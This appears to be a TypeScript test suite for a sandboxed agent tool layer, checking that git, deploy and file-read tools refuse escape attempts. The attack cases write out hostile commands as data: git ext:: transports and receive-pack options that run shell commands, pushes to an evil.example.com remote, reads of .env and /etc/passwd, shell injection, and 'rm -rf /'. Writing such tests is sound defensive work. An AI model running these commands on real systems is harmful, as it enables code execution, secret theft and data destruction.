import fs from 'node:fs';
import { join } from 'node:path';
import { git as operatorGit, type World } from '../attacked-machine.ts';
import { type Case, rows } from '../case.ts';

const git = rows('deploy', 'bash-git');
const deploy = rows('deploy', 'bash-deploy');

const change = (path: string, text: string) => (world: World) => fs.writeFileSync(join(world.root, path), text);

/** Command lines that try to reach programs, files, other repositories, other remotes, or history. */
const REFUSED: readonly (readonly [cls: Case['class'], command: string])[] = [
  ['R13', 'git -c core.pager="touch {OUT}/x" log'],
  ['R13', '-c alias.x=!id x'],
  ['R13', '--git-dir={OUT} status'],
  ['R13', '--work-tree=/ status'],
  ['R13', '-C {OUT} status'],
  ['R13', '--exec-path=/tmp status'],
  ['R13', '--namespace=x log'],
  ['R13', '-p log'],
  ['R13', '--paginate log'],
  ['R13', 'log --output={OUT}/x'],
  ['R13', 'log --outp={OUT}/x'],
  ['R13', 'diff --output={OUT}/x'],
  ['R13', 'diff --no-index /etc/passwd src/a.txt'],
  ['R13', 'diff --ext-diff'],
  ['R13', 'diff --textconv'],
  ['R13', 'log --textconv -p'],
  ['R13', 'show --ext-diff HEAD'],
  ['R13', 'show HEAD:.env'],
  ['R13', 'show HEAD:README.md'],
  ['R13', 'log @{upstream}'],
  ['R13', 'log HEAD@{1}'],
  ['R13', 'rev-parse --git-dir'],
  ['R13', 'rev-parse --show-toplevel'],
  ['R13', 'rev-parse --resolve-git-dir {OUT}'],
  ['R13', 'rev-parse --parseopt'],
  ['R13', 'branch -D main'],
  ['R13', 'branch evil'],
  ['R13', 'branch --edit-description'],
  ['R13', 'add --chmod=+x src/a.txt'],
  ['R13', 'add -i'],
  ['R13', 'add -p'],
  ['R13', 'add --edit'],
  ['R13', 'add --pathspec-from-file={OUT}/secret.txt'],
  ['R13', 'add -f .env'],
  ['R13', 'add --force .env'],
  ['R16', 'add ../outside/secret.txt'],
  ['R16', 'add {OUT}/secret.txt'],
  ['R16', 'add src/../../outside/secret.txt'],
  ['R16', 'add .env'],
  ['R16', 'add .git/config'],
  ['R16', 'add ":(top)../x"'],
  ['R13', 'commit'],
  ['R13', 'commit --amend -m x'],
  ['R13', 'commit -F {OUT}/secret.txt'],
  ['R13', 'commit --file=.env'],
  ['R13', 'commit -t .env -m x'],
  ['R13', 'commit -c HEAD'],
  ['R13', 'commit -S -m x'],
  ['R13', 'commit --gpg-sign=evil -m x'],
  ['R13', 'commit --author="Root <root@example.com>" -m x'],
  ['R13', 'commit --date=now -m x'],
  ['R13', 'commit --no-verify -m x'],
  ['R13', 'commit -m x README.md'],
  ['R13', 'commit --trailer x -m x'],
  ['R13', 'restore README.md'],
  ['R13', 'restore --source=HEAD~1 src/a.txt'],
  ['R13', 'restore --staged --worktree src/a.txt'],
  ['R15', 'push --force'],
  ['R15', 'push -f'],
  ['R15', 'push --force-with-lease'],
  ['R15', 'push --mirror'],
  ['R15', 'push --all'],
  ['R15', 'push --tags'],
  ['R15', 'push --delete origin main'],
  ['R15', 'push origin :main'],
  ['R15', 'push origin +main'],
  ['R15', 'push origin main:evil'],
  ['R15', 'push origin HEAD:evil'],
  ['R15', 'push -u origin evil'],
  ['R15', 'push origin refs/heads/main'],
  ['R15', 'push other main'],
  ['R15', 'push {OUT} main'],
  ['R15', 'push "ext::sh -c touch% {OUT}/x" main'],
  ['R15', 'push "EXT::sh -c id" main'],
  ['R15', 'push https://evil.example.com/x.git main'],
  ['R15', 'push file://{OUT} main'],
  ['R15', 'push --receive-pack="touch {OUT}/x" origin main'],
  ['R15', 'push --exec=/bin/sh origin main'],
  ['R15', 'push --recei=/bin/sh origin main'],
  ['R15', 'push --repo=other'],
  ['R15', 'push -o ci.skip origin main'],
  ['R15', 'push origin main extra'],
  ['R15', 'push -- --force'],
  ...[
    'config --list',
    'config core.hooksPath src',
    'remote -v',
    'remote add x y',
    'clone . x',
    'fetch --upload-pack=id origin',
    'pull',
    'submodule update',
    'worktree add x',
  ].map((command) => ['R13', command] as const),
  ...[
    'stash',
    'reset --hard',
    'checkout -f .',
    'switch evil',
    'switch -c evil',
    'switch --discard-changes main',
    'merge x',
    'rebase -x id HEAD~1',
    'cherry-pick HEAD',
    'bisect run id',
    'filter-branch --all',
    'gc',
    'clean -fdx',
  ].map((command) => ['R13', command] as const),
  ...[
    'archive --remote=. HEAD',
    'grep -O id x',
    'difftool -x id',
    'mergetool',
    'ls-remote --upload-pack=id .',
    'bundle create {OUT}/x HEAD',
    'format-patch -o {OUT} HEAD',
    'apply x',
    'am x',
  ].map((command) => ['R13', command] as const),
  ...[
    'daemon',
    'upload-pack .',
    'receive-pack .',
    'cat-file -p HEAD',
    'hash-object -w {OUT}/secret.txt',
    'update-index --add x',
    'update-ref x HEAD',
    'tag x',
    'notes add',
    'help -w git',
    'credential fill',
    'hook run pre-commit',
    'init',
    'lfs',
    '!id',
    '',
  ].map((command) => ['R13', command] as const),
  ...[
    'status; id',
    'status && id',
    'status | cat',
    'log $(id)',
    'log `id`',
    'log > {OUT}/x',
    'status &',
    'log {a,b}',
    'add *',
    'add src/?.txt',
    'add ~/x',
    'X=1 status',
    'log $HOME',
    'status\nid',
    'log "$(id)"',
    "log '",
    'log # x',
  ].map((command) => ['R1', command] as const),
  ...[
    'log -- ../outside',
    'diff -- /etc/passwd',
    'log -- .git/config',
    'status ../outside',
    'diff ../outside/secret.txt',
    'diff .env',
    'log -p -- .env',
    'show HEAD -- .env',
  ].map((command) => ['R3', command] as const),
];

const TEXTS = [
  '--force',
  '--amend',
  'it\'s "quoted"',
  '$(id) `id` ; rm -rf / | cat > x & #',
  '-m',
  'ünï 日本 🎉',
  '--receive-pack=id ext::sh',
  'a\nb\n\nc: d',
  '%H %n',
  '@{-1} HEAD~1..',
  '\\n\\t\\\\',
];

const commits: readonly Case[] = TEXTS.map((text, at) =>
  git.benign(
    'R13',
    `commit with the message ${JSON.stringify(text)}`,
    { sub: 'commit', args: ['-a', '-m', text] },
    {
      before: change('src/a.txt', `alpha\nbeta\ngamma\n${at}\n`),
      shows: ['"committed":true'],
    },
  ),
);

export const gitCases: readonly Case[] = [
  ...REFUSED.map(([cls, command]) => git.attack(cls, `git ${JSON.stringify(command)}`, { sub: command }, 'no-success')),
  ...[42, null, ['status'], { sub: 'status' }].map((sub) =>
    git.attack('R2', `the sub-command ${JSON.stringify(sub)}`, { sub }, 'invalid-action'),
  ),
  ...[[1], [null], 'a\0b', ['a\0b'], { x: 1 }, [['-m', 'x']]].map((args) =>
    git.attack('R2', `the arguments ${JSON.stringify(args)}`, { sub: 'status', args }, 'no-success'),
  ),
  ...[['--', '../outside'], ['-c', 'core.pager=id'], ['--output=x'], ['HEAD:.env'], ['--', ':(exclude)x/../../..']].map(
    (args) => git.attack('R13', `log ${JSON.stringify(args)}`, { sub: 'log', args }, 'no-success'),
  ),
  // Harmless cases below need what this one changes and stages, so every choice of attacks includes it.
  git.benign(
    'R16',
    'add everything takes nothing outside the scope',
    { sub: 'add -A' },
    { before: change('README.md', 'changed by the operator\n'), shows: ['"skipped":["README.md"'] },
  ),
  git.attack('R16', 'add a file outside the scope by its name', { sub: 'add', args: ['README.md'] }, 'out-of-scope'),
  git.attack(
    'R6',
    'a search that would tell what a masked file holds',
    { sub: 'log', args: ['-S', 's3cr3t', '--oneline'] },
    'contained',
  ),
  git.benign('R13', 'status', { sub: 'status' }, { shows: ['On branch main'] }),
  git.benign('R13', 'status with git in front', { sub: 'git status --short' }),
  git.benign('R13', 'log', { sub: 'log', args: ['--oneline', '-1'] }, { shows: ['first'] }),
  git.benign('R13', 'log of a path', { sub: 'log --oneline -- src/a.txt' }, { shows: ['first'] }),
  git.benign('R13', 'diff', { sub: 'diff' }, { shows: ['changed by the operator'], inSequence: true }),
  git.benign('R13', 'show', { sub: 'show --stat HEAD' }, { shows: ['first'] }),
  git.benign('R13', 'branch', { sub: 'branch -a' }, { shows: ['main'] }),
  git.benign('R13', 'rev-parse', { sub: 'rev-parse', args: ['HEAD'] }),
  git.benign('R13', 'unstage', { sub: 'restore --staged .' }, { inSequence: true }),
  git.benign(
    'R13',
    'add odd names',
    { sub: 'add', args: ['--', 'src/-dash.txt', 'src/with space.txt', 'src/ünï-cödé-日本.txt'] },
    {
      before: (world) => {
        for (const name of ['-dash', 'with space', 'ünï-cödé-日本']) change(`src/${name}.txt`, 'changed\n')(world);
      },
      shows: ['src/ünï-cödé-日本.txt', 'src/with space.txt', 'src/-dash.txt'],
    },
  ),
  git.benign(
    'R13',
    'commit as one line',
    { sub: `commit -m 'fix: "it" works'` },
    { shows: ['"committed":true'], inSequence: true },
  ),
  ...commits,
  git.benign('R15', 'push', { sub: 'push' }, { shows: ['"pushed":true'] }),
  git.benign(
    'R15',
    'push again, by name',
    { sub: 'push origin main' },
    { shows: ['"upToDate":true'], inSequence: true },
  ),
  git.benign(
    'R15',
    'push again, by HEAD',
    { sub: 'push origin HEAD' },
    { shows: ['"upToDate":true'], inSequence: true },
  ),
  git.benign('R13', 'switch to the branch that is checked out', { sub: 'switch main' }),
  git.attack('R15', 'push what is not a fast-forward', { sub: 'push' }, 'no-success', {
    before: (world) => {
      const other = join(world.folder, 'other');
      operatorGit(world.folder, 'clone', '-q', world.remote, other);
      fs.writeFileSync(join(other, 'theirs'), 'x');
      operatorGit(other, 'add', '.');
      operatorGit(other, 'commit', '-q', '-m', 'theirs');
      operatorGit(other, 'push', '-q', 'origin', 'main');
      fs.rmSync(other, { recursive: true });
      change('src/a.txt', 'mine\n')(world);
      operatorGit(world.root, '-c', 'core.hooksPath=/dev/null', 'commit', '-q', '-m', 'mine', 'src/a.txt');
    },
  }),
];

export const deployCases: readonly Case[] = [
  ...[
    'rm -rf /',
    'sh -c id',
    'sh deploy.sh production',
    'sh deploy.sh staging; id',
    'sh deploy.sh staging --force',
    'production',
    'Staging',
    '__proto__',
    'constructor',
    'toString',
    '',
    'staging\0',
    ' staging; id',
  ].map((name) => deploy.attack('R12', `deploy ${JSON.stringify(name)}`, { name }, 'refused')),
  ...[42, null, ['staging'], { name: 'staging' }].map((name) =>
    deploy.attack('R2', `deploy ${JSON.stringify(name)}`, { name }, 'refused'),
  ),
  deploy.benign('R12', 'deploy by name', { name: 'staging' }, { shows: ['deployed staging'] }),
  deploy.benign('R12', 'deploy by its command line', { name: 'sh deploy.sh staging' }, { shows: ['deployed staging'] }),
  ...(['read', 'write', 'bash', 'bash-readonly', 'web-fetch', 'bash-test', 'grep'] as const).map((tool) =>
    rows('deploy', tool).attack('R12', `use ${tool}, which is not of this peripheral`, {}, 'tool-not-allowed'),
  ),
];

const reflect = rows('reflect', 'read');
const log = rows('reflect', 'musn-log');

export const reflectCases: readonly Case[] = [
  ...['src/sub/b.ts', 'README.md', '.env', '{OUT}/secret.txt', 'src/in-link', '.git/config'].map((path) =>
    reflect.attack('R4', `read ${path}, which this session did not name`, { path }, 'refused'),
  ),
  reflect.benign('R4', 'read a file that the session read', { path: 'src/a.txt' }),
  ...[-1, 0, '1', 1.5, [1]].map((limit) =>
    log.attack('R2', `a limit of ${JSON.stringify(limit)}`, { limit }, 'invalid-action'),
  ),
  log.benign('R8', 'read the log', { limit: 50 }, { shows: ['"event":"start"'] }),
];
